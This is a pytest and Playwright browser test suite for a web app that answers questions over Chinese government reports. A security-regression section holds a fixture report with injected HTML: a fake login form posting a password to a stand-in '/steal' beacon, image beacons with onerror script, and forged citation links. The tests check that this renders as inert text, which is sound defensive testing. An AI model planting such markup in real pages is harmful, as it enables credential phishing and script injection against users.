"""The web app in a real headless Chromium (Debian's /usr/bin/chromium driven by Playwright).

One app server per module, on four of the five seeds (the fifth is uploaded as GBK HTML by a test); a fresh
browser page per test. Screenshots of every test land in tests/artifacts/ (git-ignored).
"""

from __future__ import annotations

import html
import os
from pathlib import Path

import pytest

from rag.core.textnorm import normalize_for_search
from tests.conftest import REPO, SEEDS
from tests.webapp import running

CHROMIUM = Path(os.environ.get("REPORTQA_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
ARTIFACTS = REPO / "tests" / "artifacts"
UPLOAD_SEED = "004_47fca0f5403c067d.txt"  # left out of the app's index; uploaded as GBK HTML
LAPTOP = {"width": 1366, "height": 900}
PHONE = {"width": 390, "height": 844}
TIMEOUT_MS = 300_000  # a loaded CI machine (full-suite runs have stalled one answer ~2 min); no timing is asserted
LOCAL_MODEL_TIMEOUT_MS = 540_000  # the local model on 2 busy cores (its speed is measured by `reportqa bench`)

pytestmark = [  # Gradio 6.31 calls pandas options that pandas 3 deprecates (not our code)
    pytest.mark.filterwarnings("ignore:.*no_silent_downcasting.*"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]


def norm(text: str) -> str:
    return normalize_for_search(text)


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        message = (f"{CHROMIUM} not found: the browser tests need Debian's Chromium "
                   "(apt-get install chromium; .ci/run installs it)")
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def ui_services(tmp_path_factory):
    from rag.core.config import Settings
    from rag.service.resources import Services

    settings = Settings(index_dir=tmp_path_factory.mktemp("ui_index"), llm="extractive")
    services = Services(settings)
    outcomes = services.ingest([p for p in sorted(SEEDS.glob("*.txt")) if p.name != UPLOAD_SEED])
    assert [o.status for o in outcomes] == ["added"] * 4
    services.warm_up()  # the model and indexes load before the first question, as `serve` does (no cold first ask)
    yield services
    services.close()


@pytest.fixture(scope="module")
def app_url(ui_services):
    from ui.app import build_app

    with running(build_app(ui_services)) as url:
        yield url


@pytest.fixture
def page(browser, app_url, request):
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    context = browser.new_context(viewport=LAPTOP, locale="zh-CN")
    page = context.new_page()
    page.rq_console = []
    page.on("console", lambda message: page.rq_console.append(f"{message.type}: {message.text}"[:500]))
    page.on("requestfailed", lambda req: page.rq_console.append(f"request failed: {req.url} {req.failure}"))
    page.set_default_timeout(TIMEOUT_MS)
    page.goto(app_url)
    page.wait_for_selector("#rq-question textarea")
    yield page
    page.screenshot(path=ARTIFACTS / f"{request.node.name}.png", full_page=True)
    context.close()


def shot(page, name: str, viewport: dict[str, int] | None = None) -> None:
    if viewport:
        page.set_viewport_size(viewport)
        page.wait_for_timeout(300)
    page.screenshot(path=ARTIFACTS / f"{name}.png", full_page=True)


def report_stall(page) -> None:
    """An answer that never arrived: print what the page shows and where every server thread is (the server
    runs in this process), so a stall in CI says whether the server was busy, blocked or never asked."""
    import sys
    import threading
    import traceback

    print("chat:", page.inner_text("#rq-chat")[-2000:], "\nstatus:", page.inner_html("#rq-status")[-500:])
    print("console:", *page.rq_console, sep="\n  ")
    names = {thread.ident: thread.name for thread in threading.enumerate()}
    for ident, frame in sys._current_frames().items():
        print(f"--- thread {names.get(ident, ident)}:", "".join(traceback.format_stack(frame)[-12:]))


def ask(page, question: str, turn: int = 1, timeout_ms: int = TIMEOUT_MS) -> tuple[str, str]:
    """Type and send a question; wait for the answer; return (answer text, sources panel text)."""
    page.fill("#rq-question textarea", question)
    page.click("#rq-ask")
    try:
        page.wait_for_selector(f'#rq-status [data-turn="{turn}"]', timeout=timeout_ms)
    except Exception:
        report_stall(page)
        raise
    answer = page.locator("#rq-chat .message-content").last.inner_text()
    return answer, page.inner_text("#rq-sources")


def item_for(dev_qa: list[dict], lang: str) -> dict:
    return next(q for q in dev_qa if q["lang"] == lang and q["source"] != UPLOAD_SEED)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_question_gets_answer_and_gold_paragraph_in_sources(page, dev_qa, lang):
    item = item_for(dev_qa, lang)
    answer, sources = ask(page, item["question"])
    assert all(a in answer for a in item["answer_contains"]), answer
    assert any(norm(g) in norm(sources) for g in item["gold_contains"]), sources
    assert page.locator("#rq-status .rq-ok").count() == 1  # grounded badge
    assert page.locator("#rq-sources .rq-src mark").count() >= 1  # supporting span highlighted
    shot(page, f"chat-{lang}-laptop")
    shot(page, f"chat-{lang}-phone", PHONE)


def test_unanswerable_question_shows_refusal_badge(page):
    answer, _ = ask(page, "凌河区的火星基地建设进展如何？")
    assert "未找到" in answer
    assert page.locator("#rq-status .rq-refused").count() == 1


def test_citation_opens_the_paragraph_in_the_viewer(page, dev_qa):
    item = item_for(dev_qa, "zh")
    ask(page, item["question"])
    page.locator("#rq-chat a.rq-cite").first.click()
    target = page.locator("#rq-viewer .rq-target").first
    target.wait_for()
    assert page.locator("#rq-tab-reports-button").get_attribute("aria-selected") == "true"
    assert any(norm(g) in norm(target.inner_text()) for g in item["gold_contains"])
    assert target.locator("mark").count() == 1  # the quoted span, highlighted in the full text
    page.wait_for_function("""() => { const r = document.querySelector('#rq-viewer .rq-target')
                                        .getBoundingClientRect();
                                      return r.top >= 0 && r.bottom <= window.innerHeight; }""")
    shot(page, "viewer-from-citation")
    # back in the chat, a click on the source card opens the same paragraph
    page.click("#rq-back")
    page.locator("#rq-sources .rq-src").first.click()
    page.wait_for_function("document.querySelector('#rq-tab-reports-button').getAttribute('aria-selected') === 'true'")
    assert any(norm(g) in norm(page.locator("#rq-viewer .rq-target").first.inner_text())
               for g in item["gold_contains"])


def test_reports_tab_lists_reports_and_opens_one(page, ui_services):
    page.click("#rq-tab-reports-button")
    rows = page.locator("#rq-reports-table .virtual-row")
    rows.first.wait_for()
    assert rows.count() == len(ui_services.store.reports())
    rows.first.locator(".body-cell").nth(1).click()
    page.wait_for_selector("#rq-report-head h3")
    if callable(getattr(ui_services, "summarize", None)):  # summary tab first; its [n] open the paragraph
        cite = page.locator("#rq-summary a.rq-cite").first
        cite.wait_for()
        shot(page, "reports-summary")
        cite.click()
        page.locator("#rq-viewer .rq-target mark").first.wait_for()
    if callable(getattr(ui_services, "indicators", None)):  # a row opens its paragraph
        page.click("#rq-rtab-indicators-button")
        row = page.locator("#rq-indicators .virtual-row").first
        row.wait_for()
        shot(page, "reports-indicators")
        first_report = ui_services.store.reports()[0].report_id  # the table's first row
        quote = ui_services.indicators(report_id=first_report)[2].to_dict()["quote"][:8]
        page.locator("#rq-indicators .virtual-row").nth(2).locator(".body-cell").first.click()
        page.wait_for_function("q => [...document.querySelectorAll('#rq-viewer .rq-target')]"
                               ".some(p => p.innerText.includes(q))", arg=quote)
    page.click("#rq-rtab-text-button")
    page.wait_for_selector("#rq-viewer .rq-p")
    assert page.locator("#rq-viewer .rq-toc li").count() >= 2  # section tree
    assert page.locator("#rq-viewer .rq-pn").first.inner_text() == "¶1"  # paragraph anchors
    assert page.inner_text("#rq-report-head").strip()
    shot(page, "reports-laptop")
    shot(page, "reports-phone", PHONE)


def gbk_html(seed: Path, target: Path) -> Path:
    """A seed as a web page saved in GBK, the way many government sites still serve reports."""
    paragraphs = "\n".join(f"<p>{html.escape(line)}</p>" for line in seed.read_text(encoding="utf-8").splitlines())
    page = (f'<!DOCTYPE html><html><head><meta charset="gbk"><title>{seed.stem}</title></head>'
            f'<body><div class="article">{paragraphs}</div></body></html>')
    target.write_bytes(page.encode("gbk"))
    return target


def test_upload_gbk_html_is_searchable_then_delete(page, dev_qa, tmp_path):
    page.on("dialog", lambda dialog: dialog.accept())
    item = next(q for q in dev_qa if q["source"] == UPLOAD_SEED and q["lang"] == "zh")
    upload = gbk_html(SEEDS / UPLOAD_SEED, tmp_path / "xishi_gbk.html")
    junk = tmp_path / "notes.txt"
    junk.write_text("hello world, nothing Chinese here", encoding="utf-8")
    page.click("#rq-tab-reports-button")
    page.set_input_files("#rq-upload input[type=file]", [str(upload), str(junk)])
    page.wait_for_function("document.querySelector('#rq-upload').innerText.includes('notes')")
    page.click("#rq-import")
    result = page.locator("#rq-upload-result")
    result.get_by_text("新增 added").wait_for()
    text = result.inner_text()
    assert "xishi_gbk.html" in text and "西市區" in text
    assert "notes.txt" in text and "拒绝 rejected" in text and "no Chinese text" in text
    page.locator("#rq-reports-table").get_by_text("xishi_gbk").wait_for()
    shot(page, "upload-result")

    page.click("#rq-tab-chat-button")
    answer, sources = ask(page, item["question"])
    assert all(norm(a) in norm(answer) for a in item["answer_contains"]), answer
    assert any(norm(g) in norm(sources) for g in item["gold_contains"]), sources

    page.click("#rq-tab-reports-button")
    page.locator("#rq-reports-table .body-cell").get_by_text("xishi_gbk", exact=True).click()
    page.wait_for_selector('#rq-viewer [data-report="xishi_gbk"]', state="attached")
    page.click("#rq-delete")
    page.locator("#rq-reports-table").get_by_text("xishi_gbk").wait_for(state="detached")


def test_compare_tab_renders_a_table(page, ui_services):
    if not callable(getattr(ui_services, "compare", None)):
        message = "Services.compare (issue #5) is not available"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    page.click("#rq-tab-compare-button")
    page.click("#rq-cmp-indicator input")
    options = page.get_by_role("option")
    options.first.wait_for()
    preferred = options.filter(has_text="地区生产总值")
    (preferred.first if preferred.count() else options.first).click()
    page.click("#rq-cmp-run")
    rows = page.locator("#rq-cmp-table .virtual-row")
    rows.first.wait_for()
    assert rows.count() >= 2
    page.locator("#rq-cmp-csv").get_by_text(".csv").first.wait_for()
    shot(page, "compare-laptop")
    shot(page, "compare-phone", PHONE)


# -- security regressions (issue #11) -------------------------------------------------------------------------
EVIL_REPORT = """云溪县2023年政府工作报告
——2023年1月10日在云溪县第五届人民代表大会第二次会议上
县长 林海
各位代表：
现在，我代表县人民政府向大会报告工作，请予审议。
一、2022年工作回顾
全县地区生产总值完成128亿元，增长6.1%。<form action="{beacon}/steal" method="post"><input type="password" name="pw" placeholder="请重新登录"><button>登录</button></form>
全县城镇新增就业[1]达到5200人详见[就业报告](#cite-{target}@0:20)。<img src="{beacon}/beacon.png" onerror="document.title='pwned'">
二、2023年工作安排
全县地区生产总值增长6%左右，城镇新增就业5000人以上。<img src=x onerror="document.title='pwned'">
"""


@pytest.fixture
def evil_report(ui_services, tmp_path):
    """A report whose text carries HTML (a fake login form, beacons) and Markdown citation forgeries, added
    after the app started (as another session's upload would be); removed afterwards."""
    target = ui_services.store.chunk_ids()[0]
    path = tmp_path / "yunxi_evil.txt"
    path.write_text(EVIL_REPORT.format(beacon="http://127.0.0.1:9", target=target), encoding="utf-8")
    assert ui_services.ingest([path])[0].status == "added"
    yield "yunxi_evil"
    ui_services.delete_report("yunxi_evil")


def assert_inert(page) -> None:
    """Nothing the report carried became markup: no form, no password box, no image beacon, no script run."""
    assert page.locator("form, input[type=password], img[src*='127.0.0.1:9'], img[src='x']").count() == 0
    assert page.title() != "pwned"


def test_new_session_sees_reports_added_later_and_their_summary_is_text(browser, app_url, evil_report):
    """A page opened after another session added a report lists it (lists load per session), its sources
    open in the viewer, and its summary shows the report's HTML as text (stored HTML injection)."""
    requests: list[str] = []
    context = browser.new_context(viewport=LAPTOP, locale="zh-CN")
    page = context.new_page()
    page.rq_console = []
    page.on("console", lambda message: page.rq_console.append(f"{message.type}: {message.text}"[:500]))
    page.on("requestfailed", lambda req: page.rq_console.append(f"request failed: {req.url} {req.failure}"))
    page.set_default_timeout(TIMEOUT_MS)
    page.on("request", lambda request: requests.append(request.url))
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    try:
        page.goto(app_url)
        page.wait_for_selector("#rq-question textarea")
        page.click("#rq-tab-reports-button")
        page.locator("#rq-reports-table").get_by_text(evil_report, exact=True).wait_for()
        page.locator("#rq-reports-table .body-cell").get_by_text(evil_report, exact=True).click()
        summary = page.locator("#rq-summary")
        summary.get_by_text("请重新登录").first.wait_for()  # the form markup, shown as text
        assert "<form" in summary.inner_text()
        cite = page.locator("#rq-summary a.rq-cite")
        links = [cite.nth(i).get_attribute("href") for i in range(cite.count())]
        assert links and all(href.startswith("#cite-yunxi_evil") for href in links), links  # no forged target
        assert_inert(page)
        shot(page, "security-summary")
        # chat: a source from the report added after the app started opens in the viewer (no stale choices)
        page.click("#rq-tab-chat-button")
        ask(page, "云溪县2022年城镇新增就业多少人？")
        page.locator("#rq-sources .rq-src").first.click()
        page.wait_for_selector(f'#rq-viewer [data-report="{evil_report}"]', state="attached")
        assert page.locator(".toast-body, .toast-wrap").filter(has_text="not in the list").count() == 0
        assert_inert(page)
        assert not any("127.0.0.1:9" in url for url in requests), requests
    finally:
        context.close()


def test_report_text_cannot_forge_citation_links_in_the_chat(page, evil_report):
    answer, _ = ask(page, "云溪县2022年城镇新增就业多少人？")
    assert "5200人" in answer
    chip = page.locator("#rq-sources .rq-src .rq-year").first.inner_text()
    assert chip.startswith("2023"), chip  # year chip on the card: the report's year (and what the ¶ is about)
    chat = page.locator("#rq-chat")
    assert chat.locator("a", has_text="就业报告").count() == 0  # the report's Markdown link stays text
    links = chat.locator("a[href^='#cite-']")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    texts = [links.nth(i).inner_text() for i in range(links.count())]
    assert hrefs and all(h.startswith("#cite-yunxi_evil") for h in hrefs), hrefs  # not the forged target
    assert all(t.startswith("[") and t.strip("[]").isdigit() for t in texts), texts
    assert "［1］" in answer  # the report's own "[1]" is shown as text
    assert_inert(page)
    shot(page, "security-chat")


def test_follow_up_question_keeps_the_indicator_and_takes_the_new_place(page):
    """那解放区呢？ after a question about 凌河区's GDP growth target: the answer is 解放区's growth target (8%左右),
    not its GDP level (181.8亿元) or 凌河区's target. With the local model when it is installed (as `make setup`
    does), since that is the engine a follow-up used to go wrong with."""
    from rag.answer.engines import local_installed

    wait = TIMEOUT_MS
    if local_installed(None):
        page.locator("#rq-engine label", has_text="Local LLM").click()
        wait = LOCAL_MODEL_TIMEOUT_MS
    first, _ = ask(page, "凌河区2023年地区生产总值增长目标是多少？", timeout_ms=wait)
    assert "5%" in first, first
    answer, sources = ask(page, "那解放区呢？", turn=2, timeout_ms=wait)
    assert "8%" in answer and "181.8" not in answer, answer
    assert "解放区" in sources and "凌河区" not in answer, (answer, sources)
    assert page.locator("#rq-status .rq-refused").count() == 0
    shot(page, "chat-follow-up")
